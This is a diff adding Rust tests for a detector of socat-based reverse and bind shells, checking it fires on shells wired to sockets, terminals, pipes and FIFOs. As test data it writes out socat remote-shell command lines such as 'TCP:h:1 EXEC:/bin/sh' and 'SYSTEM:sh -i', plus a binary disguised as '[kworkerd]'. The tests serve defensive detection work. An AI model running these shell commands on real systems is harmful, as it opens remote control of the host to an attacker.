@@ -1,0 +1,200 @@
+use super::scenario::*;
+use detection::{Direction as Way, Settings};
+use event::Direction::{Accepted, Connected};
+use event::{Protocol, SocketState};
+use programs::executable::{Kind, ShellFamily};
+
+const MODULE: &str = "SOCAT_REVERSE_SHELL_DETECTED";
+
+fn sh() -> Kind {
+    Kind::Shell(ShellFamily::Dash)
+}
+
+fn socat_with(world: &mut World, path: &str, arguments: &[&str], descriptors: &[event::Descriptor]) {
+    assert!(world.exec(INIT, 10, socat(), path, arguments, &[]).is_none());
+    world.opens(10, descriptors);
+}
+
+#[test]
+fn a_shell_behind_a_socket_pair_fires_once() {
+    let mut world = World::new();
+    socat_with(
+        &mut world,
+        "/usr/bin/socat",
+        &["socat", "TCP:h:1", "EXEC:/bin/sh"],
+        &[tcp(5, 50, Connected), unix(6, 60, 61)],
+    );
+    let found = world.exec(10, 11, sh(), "/bin/dash", &["sh"], &[unix(0, 61, 60), unix(1, 61, 60)]).unwrap();
+    assert_eq!(found.metadata.module, MODULE);
+    assert_eq!(found.direction, Way::Reverse);
+    assert_eq!(found.endpoint.unwrap().remote.port, 9_001);
+    assert_eq!(found.opener.unwrap().process.pid, 10);
+    // what is run in the same session is the same finding
+    assert!(
+        world.exec(11, 12, sh(), "/bin/dash", &["sh", "-i"], &[unix(0, 61, 60), unix(1, 61, 60)]).is_none()
+    );
+}
+
+#[test]
+fn the_name_does_not_matter() {
+    let mut world = World::new();
+    socat_with(
+        &mut world,
+        "/tmp/kworkerd",
+        &["[kworkerd]", "x", "y"],
+        &[tcp(5, 50, Connected), unix(6, 60, 61)],
+    );
+    let found = world.exec(10, 11, sh(), "/bin/dash", &["sh"], &[unix(0, 61, 60)]);
+    assert_eq!(found.unwrap().metadata.module, MODULE);
+}
+
+#[test]
+fn a_terminal_and_pipes_are_followed() {
+    for (there, here) in [
+        (vec![master(7, 3)], vec![slave(0, 3), slave(1, 3), slave(2, 3)]),
+        (vec![writes_pipe(7, 70), reads_pipe(8, 71)], vec![reads_pipe(0, 70), writes_pipe(1, 71)]),
+    ] {
+        let mut world = World::new();
+        socat_with(&mut world, "/usr/bin/socat", &["socat"], &[vec![tcp(5, 50, Accepted)], there].concat());
+        let found = world.exec(10, 11, sh(), "/bin/dash", &["sh", "-i"], &here).unwrap();
+        assert_eq!((found.metadata.module, found.direction), (MODULE, Way::Bind));
+    }
+}
+
+#[test]
+fn nofork_leaves_no_parent_but_a_former_self() {
+    let mut world = World::new();
+    socat_with(
+        &mut world,
+        "/usr/bin/socat",
+        &["socat", "TCP:h:1", "EXEC:sh,nofork"],
+        &[tcp(5, 50, Connected)],
+    );
+    let found =
+        world.exec(INIT, 10, sh(), "/bin/dash", &["sh"], &[tcp(0, 50, Connected), tcp(1, 50, Connected)]);
+    assert_eq!(found.unwrap().metadata.module, MODULE);
+}
+
+#[test]
+fn system_starts_a_shell_before_the_shell() {
+    let mut world = World::new();
+    socat_with(
+        &mut world,
+        "/usr/bin/socat",
+        &["socat", "TCP:h:1", "SYSTEM:sh -i"],
+        &[tcp(5, 50, Connected), unix(6, 60, 61)],
+    );
+    let ends = [unix(0, 61, 60), unix(1, 61, 60)];
+    let found = world.exec(10, 11, sh(), "/bin/dash", &["sh", "-c", "sh -i"], &ends);
+    assert_eq!(found.unwrap().metadata.module, MODULE);
+    assert!(
+        world.exec(11, 12, sh(), "/bin/dash", &["sh", "-i"], &ends).is_none(),
+        "one session, one finding"
+    );
+}
+
+#[test]
+fn a_unix_socket_with_a_second_socat_behind_it_is_followed() {
+    let mut world = World::new();
+    socat_with(
+        &mut world,
+        "/usr/bin/socat",
+        &["socat", "UNIX-LISTEN:/s", "EXEC:sh"],
+        &[unix(5, 70, 71), unix(6, 60, 61)],
+    );
+    world.exec(INIT, 20, socat(), "/usr/bin/socat", &["socat", "TCP:h:1", "UNIX:/s"], &[]);
+    world.opens(20, &[tcp(5, 50, Connected), unix(6, 71, 70)]);
+    let found = world.exec(10, 11, sh(), "/bin/dash", &["sh"], &[unix(0, 61, 60), unix(1, 61, 60)]).unwrap();
+    assert_eq!(found.metadata.module, MODULE);
+}
+
+#[test]
+fn a_shell_on_a_terminal_that_socat_opened_elsewhere() {
+    let mut world = World::new();
+    socat_with(
+        &mut world,
+        "/usr/bin/socat",
+        &["socat", "TCP:h:1", "PTY,link=/tmp/p"],
+        &[tcp(5, 50, Connected), master(7, 4)],
+    );
+    let found = world.exec(INIT, 30, sh(), "/bin/dash", &["sh"], &[slave(0, 4), slave(1, 4), slave(2, 4)]);
+    assert_eq!(found.unwrap().metadata.module, MODULE);
+}
+
+#[test]
+fn a_fifo_pipeline_whose_socat_connects_later() {
+    let mut world = World::new();
+    let shell = [reads_fifo(0, 80), writes_pipe(1, 81), writes_pipe(2, 81)];
+    assert!(world.exec(INIT, 30, sh(), "/bin/dash", &["sh", "-i"], &shell).is_none());
+    world.exec(
+        INIT,
+        31,
+        socat(),
+        "/usr/bin/socat",
+        &["socat", "-", "TCP:h:1"],
+        &[reads_pipe(0, 81), writes_fifo(1, 80)],
+    );
+    assert!(world.again(30).is_none());
+    world.opens(31, &[tcp(5, 50, Connected)]);
+    assert_eq!(world.again(30).unwrap().metadata.module, MODULE);
+}
+
+#[test]
+fn an_interpreter_that_reads_its_program_from_the_peer() {
+    let mut world = World::new();
+    socat_with(&mut world, "/usr/bin/socat", &["socat"], &[tcp(5, 50, Connected), unix(6, 60, 61)]);
+    let python = Kind::Interpreter(programs::executable::InterpreterFamily::Python);
+    let found = world.exec(10, 11, python, "/usr/bin/python3.11", &["python3", "-i"], &[unix(0, 61, 60)]);
+    assert_eq!(found.unwrap().metadata.module, MODULE);
+}
+
+#[test]
+fn datagrams_without_a_peer_count_for_socat() {
+    let mut world = World::new();
+    let receives = socket(5, 50, event::Direction::Unknown, Protocol::Udp, SocketState::Unconnected);
+    socat_with(
+        &mut world,
+        "/usr/bin/socat",
+        &["socat", "UDP-RECVFROM:1", "EXEC:sh"],
+        &[receives, unix(6, 60, 61)],
+    );
+    assert!(world.exec(10, 11, sh(), "/bin/dash", &["sh"], &[unix(0, 61, 60)]).is_some());
+}
+
+#[test]
+fn quiet_without_a_network_or_without_commands() {
+    let mut world = World::new();
+    socat_with(
+        &mut world,
+        "/usr/bin/socat",
+        &["socat", "-", "EXEC:bash,pty"],
+        &[master(7, 4), unix(6, 60, 61)],
+    );
+    assert!(world.exec(10, 11, sh(), "/bin/dash", &["sh", "-i"], &[slave(0, 4)]).is_none());
+
+    let mut world = World::new();
+    socat_with(
+        &mut world,
+        "/usr/bin/socat",
+        &["socat", "TCP-LISTEN:1,fork", "SYSTEM:date; cat"],
+        &[tcp(5, 50, Accepted), unix(6, 60, 61)],
+    );
+    for arguments in
+        [&["sh", "-c", "date; cat"][..], &["sh", "/srv/answer.sh"], &["sh", "-e", "./answer.sh", "x"]]
+    {
+        assert!(
+            world.exec(10, 11, sh(), "/bin/dash", arguments, &[unix(0, 61, 60)]).is_none(),
+            "{arguments:?}"
+        );
+    }
+    assert!(world.exec(10, 12, Kind::Unknown, "/bin/cat", &["cat"], &[unix(0, 61, 60)]).is_none());
+}
+
+#[test]
+fn parity_is_the_literal_rule() {
+    let settings = Settings { parity: true, ..Settings::default() };
+    let mut world = World::with(settings);
+    socat_with(&mut world, "/usr/bin/socat", &["socat", "-", "EXEC:sh"], &[unix(6, 60, 61)]);
+    let found = world.exec(10, 11, sh(), "/bin/dash", &["sh", "-c", "date"], &[unix(0, 61, 60)]);
+    assert_eq!(found.unwrap().metadata.module, MODULE);
+}
